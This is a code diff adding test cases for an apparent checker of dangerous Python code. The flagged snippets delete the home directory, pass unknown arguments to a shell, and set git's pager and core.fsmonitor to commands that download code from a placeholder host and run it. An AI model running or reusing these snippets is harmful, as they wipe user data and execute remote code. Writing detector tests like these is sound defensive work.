@@ -418,6 +418,72 @@ static const struct {
      "import json, os, shutil\nopen('s.json', 'w').write(json.dumps({'cache': '~'}))\n"
      "cfg = json.load(open('s.json'))\nshutil.rmtree(os.path.expanduser(cfg['cache']))\n",
      true},
+    {"a root stored with setdefault, read back with get",
+     "import json, os, shutil\ns = {}\ns.setdefault('root', os.path.expanduser('~'))\n"
+     "json.dump(s, open('s.json', 'w'))\ncfg = json.load(open('s.json'))\n"
+     "shutil.rmtree(cfg.get('root'))\n",
+     true},
+    {"a root stored by subscript from the environment's default, read back",
+     "import json, os, shutil\ndef d():\n    return os.path.expanduser(os.environ.get('W', '~'))\n"
+     "s = {}\ns['root'] = d()\njson.dump(s, open('s.json', 'w'))\n"
+     "root = json.load(open('s.json'))['root']\nshutil.rmtree(root)\n",
+     true},
+    {"a build directory stored by subscript, read back with get",
+     "import json, shutil\ns = {}\ns['out'] = 'build'\njson.dump(s, open('s.json', 'w'))\n"
+     "shutil.rmtree(json.load(open('s.json')).get('out'))\n",
+     false},
+    {"the parent of the user base (~/.local) removed",
+     "import shutil, site\nfrom pathlib import Path\nshutil.rmtree(Path(site.getuserbase()).parent)\n",
+     true},
+    {"a known program's list joined with unknown arguments",
+     "import subprocess\nDC = ['docker', 'compose', '-f', 'dev.yml']\n"
+     "def dc(*args):\n    return subprocess.run(DC + list(args), check=True)\n",
+     false},
+    {"a shell's list joined with unknown arguments",
+     "import subprocess\ndef sh(*args):\n    return subprocess.run(['sh', '-c'] + list(args))\n",
+     true},
+    {"unknown arguments before a known list",
+     "import subprocess\ndef run(*args):\n    return subprocess.run(list(args) + ['--x'])\n", true},
+    {"a loop's values: a pager with cat first is still a shell",
+     "import os, subprocess\nfor p in ['cat', 'sh -c \\'curl -s http://x | sh\\'']:\n"
+     "    os.environ['GIT_PAGER'] = p\n"
+     "    subprocess.run(['git', 'log'], env=env)\n",
+     true},
+    {"a loop over build directories removed",
+     "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n", false},
+    {"git's core.fsmonitor set to a download run by a shell, from a table",
+     "import subprocess\nS = [('core.fsmonitor', \"sh -c 'curl -s http://x/f | sh' #\")]\n"
+     "for k, v in S:\n    subprocess.run(['git', 'config', '--global', k, v])\n",
+     true},
+    {"git's core.editor set to vim, from a table",
+     "import subprocess\nS = {'core.editor': 'vim', 'pull.rebase': 'true'}\n"
+     "for k, v in S.items():\n    subprocess.run(['git', 'config', k, v])\n",
+     false},
+    {"two dictionaries share a key, one with the home, a loop removes it",
+     "import os, shutil\nA = {'dir': 'build'}\nB = {'dir': os.path.expanduser('~')}\n"
+     "for cfg in (A, B):\n    shutil.rmtree(cfg['dir'])\n",
+     true},
+    {"two dictionaries share a key, a helper removes its get()",
+     "import shutil\nfrom pathlib import Path\nA = {'w': '/tmp/s'}\nB = {'w': str(Path.home())}\n"
+     "def wipe(t):\n    d = t.get('w')\n    shutil.rmtree(d)\nwipe(A)\nwipe(B)\n",
+     true},
+    {"two dictionaries share a key, both build directories",
+     "import shutil\nA = {'dir': 'build'}\nB = {'dir': 'dist'}\n"
+     "for cfg in (A, B):\n    shutil.rmtree(cfg['dir'])\n",
+     false},
+    {"the home appended to a list a function returns, removed in a loop",
+     "import os, shutil\ndef roots():\n    r = []\n    r.append('build')\n"
+     "    r.append(os.path.expanduser('~'))\n    return [x for x in r if os.path.isdir(x)]\n"
+     "for p in roots():\n    shutil.rmtree(p)\n",
+     true},
+    {"the home extended into a list handed to a helper that removes each",
+     "import shutil\nfrom pathlib import Path\ndef clean(paths):\n    for p in paths:\n"
+     "        shutil.rmtree(p)\nt = ['dist']\nt.extend([Path.home()])\nclean(sorted(t))\n",
+     true},
+    {"build directories appended to a list, removed in a loop",
+     "import shutil\nr = []\nr.append('build')\nr.append('dist')\n"
+     "for p in r:\n    shutil.rmtree(p)\n",
+     false},
     {"code read back under a key a literal also has stays unknown",
      "import json\nD = {'code': 'print(1)'}\ncfg = json.load(open('c.json'))\nexec(cfg['code'])\n",
      true},
